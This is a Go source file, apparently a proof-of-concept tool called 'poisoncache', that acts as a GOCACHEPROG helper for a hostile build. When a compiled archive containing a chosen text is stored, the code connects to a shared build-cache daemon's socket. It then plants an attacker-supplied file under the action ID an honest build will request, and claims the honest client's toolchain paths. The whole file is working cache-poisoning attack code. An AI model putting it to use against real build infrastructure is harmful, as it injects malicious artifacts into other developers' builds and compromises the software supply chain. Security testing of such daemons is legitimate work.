// Poisoncache is the GOCACHEPROG of a hostile build. It has nothing to give, so that everything is compiled, and where an archive is
// put that contains a text, it tells the daemon another archive: under the action for which an honest build will ask, and as the
// toolchain of an honest build.
// Its arguments are the daemon's socket, the file to put, the text, and a directory for what the go command puts.
package main

import (
	"bufio"
	"bytes"
	"crypto/sha256"
	"encoding/binary"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"os"
	"path/filepath"
)

// What cmd/go sends and reads (cmd/go/internal/cacheprog).
type request struct {
	ID       int64
	Command  string
	ActionID []byte
	OutputID []byte
	BodySize int64
}

type response struct {
	ID            int64
	KnownCommands []string `json:",omitempty"`
	Miss          bool     `json:",omitempty"`
	DiskPath      string   `json:",omitempty"`
}

func main() {
	socket, text, dir := os.Args[1], []byte(os.Args[3]), os.Args[4]
	hostile, err := os.ReadFile(os.Args[2])
	check(err)
	requests := json.NewDecoder(bufio.NewReader(os.Stdin))
	responses := json.NewEncoder(os.Stdout)
	check(responses.Encode(response{KnownCommands: []string{"get", "put", "close"}}))
	for {
		var asked request
		if err := requests.Decode(&asked); err == io.EOF {
			return
		} else {
			check(err)
		}
		answer := response{ID: asked.ID, Miss: asked.Command == "get"}
		if asked.Command == "put" {
			var body []byte
			if asked.BodySize > 0 {
				check(requests.Decode(&body))
			}
			answer.DiskPath = filepath.Join(dir, fmt.Sprintf("%x", asked.OutputID))
			check(os.WriteFile(answer.DiskPath, body, 0o666))
			if bytes.HasPrefix(body, []byte("!<arch>")) && bytes.Contains(body, text) {
				poison(socket, asked.ActionID, hostile)
			}
		}
		check(responses.Encode(answer))
	}
}

// poison puts a body for an action, by a frame of version 3 (docs/reference/protocol.md).
func poison(socket string, action, body []byte) {
	connection, err := net.Dial("unix", socket)
	check(err)
	defer connection.Close()
	fmt.Fprintf(connection, `{"version":3,"toolchain":{"goroot":%q,"gotooldir":%q}}`+"\n", real("GOROOT"), real("GOTOOLDIR"))
	replies := bufio.NewReader(connection)
	welcome, err := replies.ReadString('\n')
	check(err)
	sum := sha256.Sum256(body)
	frame := append([]byte{'P', 1, 0, 0, 0}, action...)
	frame = binary.LittleEndian.AppendUint64(append(frame, sum[:]...), uint64(len(body)))
	_, err = connection.Write(append(frame, body...))
	check(err)
	reply, err := replies.ReadByte()
	check(err)
	fmt.Fprintf(os.Stderr, "poisoncache: put %d bytes for action %x; %s reply %c\n", len(body), action, bytes.TrimSpace([]byte(welcome)), reply)
}

// real is the path that an honest client names.
func real(variable string) string {
	path, err := filepath.EvalSymlinks(os.Getenv(variable))
	if err != nil {
		return ""
	}
	return path
}

func check(err error) {
	if err != nil {
		fmt.Fprintln(os.Stderr, "poisoncache:", err)
		os.Exit(1)
	}
}
